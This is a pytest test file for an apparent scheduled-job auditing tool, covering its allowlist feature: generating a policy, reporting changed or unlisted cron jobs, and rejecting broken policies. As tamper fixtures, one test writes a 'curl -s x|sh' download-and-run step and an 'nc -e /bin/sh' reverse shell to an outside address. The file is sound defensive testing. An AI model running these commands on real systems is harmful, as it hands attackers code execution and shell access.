"""Allowlisting: `allowlist init` approves a known-good image; `audit --allowlist` then reports
every job not on it (saying which field differs) and silences what an entry silences."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from schedwarden.analyzers.allowlist import AllowlistError, parse_allowlist
from schedwarden.cli.main import main
from tests.conftest import MakeRoot

GOOD = {
    "etc/crontab": "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
    "etc/cron.d/certbot": "0 */12 * * * root test -x /usr/bin/certbot && certbot -q renew\n",
    "etc/cron.d/monitor": "* * * * * root /usr/local/bin/probe --quick\n",
    "usr/local/bin/probe": ("#!/bin/sh\necho ok\n", 0o755),
}


def _run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.stdout, result.stderr


def _findings(root: Path, policy: Path, *extra: str) -> list[dict[str, object]]:
    code, out, err = _run("audit", str(root), "-f", "json", "--allowlist", str(policy), *extra)
    assert code in (0, 1), err
    findings = json.loads(out)["findings"]
    assert isinstance(findings, list)
    return findings


@pytest.fixture
def approved(make_root: MakeRoot, tmp_path: Path) -> tuple[Path, Path]:
    root = make_root(GOOD)
    policy = tmp_path / "allow.yml"
    code, _, err = _run("allowlist", "init", str(root), "-o", str(policy))
    assert code == 0, err
    assert "3 entries for 3 jobs" in err
    return root, policy


def test_init_writes_a_policy_that_approves_the_image(approved: tuple[Path, Path]) -> None:
    root, policy = approved
    document = yaml.safe_load(policy.read_text())
    assert document["schema"] == "schedwarden.allowlist/1"
    assert document["source"]["host"] == "testhost"
    monitor = next(e for e in document["jobs"] if e["path"] == "/etc/cron.d/monitor")
    assert monitor == {
        "mechanism": "cron",
        "path": "/etc/cron.d/monitor",
        "command": "/usr/local/bin/probe --quick",
        "run_as": "root",
        "targets": {"/usr/local/bin/probe": monitor["targets"]["/usr/local/bin/probe"]},
    }
    assert [f["rule_id"] for f in _findings(root, policy)] == ["SCHEDULE_EVERY_MINUTE"]


def test_jobs_not_on_the_list_are_reported_with_the_difference(
    approved: tuple[Path, Path],
) -> None:
    root, policy = approved
    (root / "etc/cron.d/new").write_text("0 3 * * * root /usr/sbin/newjob\n")
    (root / "etc/cron.d/certbot").write_text(
        "0 */12 * * * root test -x /usr/bin/certbot && certbot -q renew && curl -s x|sh\n"
    )
    (root / "usr/local/bin/probe").write_text("#!/bin/sh\nnc -e /bin/sh 198.51.100.2 4444\n")
    unlisted = {
        f["evidence"]["path"]: f["message"]  # type: ignore[index]
        for f in _findings(root, policy)
        if f["rule_id"] == "NOT_ALLOWLISTED"
    }
    assert unlisted["/etc/cron.d/new"].endswith("no entry names this job")
    assert "command is '" in unlisted["/etc/cron.d/certbot"]
    assert "target /usr/local/bin/probe has sha256" in unlisted["/etc/cron.d/monitor"]


def test_an_entry_silences_only_its_rules_for_its_job(approved: tuple[Path, Path]) -> None:
    root, policy = approved
    document = yaml.safe_load(policy.read_text())
    for entry in document["jobs"]:
        if entry["path"] == "/etc/cron.d/monitor":
            entry["silence"] = ["SCHEDULE_EVERY_MINUTE"]
    policy.write_text(yaml.safe_dump(document))
    (root / "etc/cron.d/other").write_text("* * * * * root /usr/bin/true\n")
    rules = sorted(
        (f["rule_id"], f["evidence"]["path"])  # type: ignore[index]
        for f in _findings(root, policy)
    )
    assert rules == [
        ("NOT_ALLOWLISTED", "/etc/cron.d/other"),
        ("SCHEDULE_EVERY_MINUTE", "/etc/cron.d/other"),
    ]


def test_globs_widen_an_entry(make_root: MakeRoot, tmp_path: Path) -> None:
    root = make_root({"etc/cron.d/rotate": "5 1 * * * root /usr/sbin/rotate --keep 7 [x]\n"})
    policy = tmp_path / "p.yml"
    policy.write_text(
        "schema: schedwarden.allowlist/1\njobs:\n"
        "  - {mechanism: cron, path: /etc/cron.d/*, command: '/usr/sbin/rotate *', run_as: root}\n"
    )
    assert _findings(root, policy) == []


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("jobs: [1]", "expected a mapping"),
        ("jobs:\n  - {mechanism: crontab}", "mechanism must be one of"),
        ("jobs:\n  - {mechanism: cron, colour: red}", "unknown field(s) colour"),
        ("jobs:\n  - {mechanism: cron, targets: {/x: nothex}}", "sha256"),
        ("schema: other/9\njobs: []", "is not schedwarden.allowlist/1"),
        ("{", "not YAML"),
    ],
)
def test_a_broken_policy_is_a_usage_error(text: str, message: str, tmp_path: Path) -> None:
    with pytest.raises(AllowlistError, match=re.escape(message)):
        parse_allowlist(text, "p.yml")
    (tmp_path / "p.yml").write_text(text)
    code, _, err = _run("audit", str(tmp_path), "--allowlist", str(tmp_path / "p.yml"))
    assert code == 2
    assert message in err


def test_windows_names_compare_without_case() -> None:
    from schedwarden.analyzers.allowlist import mismatch
    from schedwarden.analyzers.context import AnalysisContext
    from schedwarden.model import (
        Effective,
        Evidence,
        ExecAction,
        Mechanism,
        ScheduledJob,
        SourceKind,
        UnknownSchedule,
    )

    task = ScheduledJob(
        job_id="t",
        mechanism=Mechanism.WINDOWS_TASK,
        technique="T1053.005",
        name="\\Vendor\\Update",
        run_as="SYSTEM",
        schedule=UnknownSchedule("none"),
        actions=(ExecAction("C:\\Program Files\\V\\u.exe", "C:\\Program Files\\V\\u.exe"),),
        effective=Effective(True, "x"),
        evidence=Evidence(SourceKind.FILE, "h", "C:\\Windows\\System32\\Tasks\\Vendor\\Update"),
    )
    [entry] = parse_allowlist(
        "jobs:\n  - mechanism: windows_task\n    name: '\\vendor\\*'\n"
        "    command: 'c:\\program files\\v\\u.exe'\n",
        "p",
    ).entries
    assert mismatch(entry, task, AnalysisContext()) is None


def test_init_refuses_to_write_inside_the_evidence(make_root: MakeRoot) -> None:
    root = make_root(GOOD)
    code, _, _ = _run("allowlist", "init", str(root), "-o", str(root / "etc" / "allow.yml"))
    assert code == 2
    assert not os.path.exists(root / "etc" / "allow.yml")
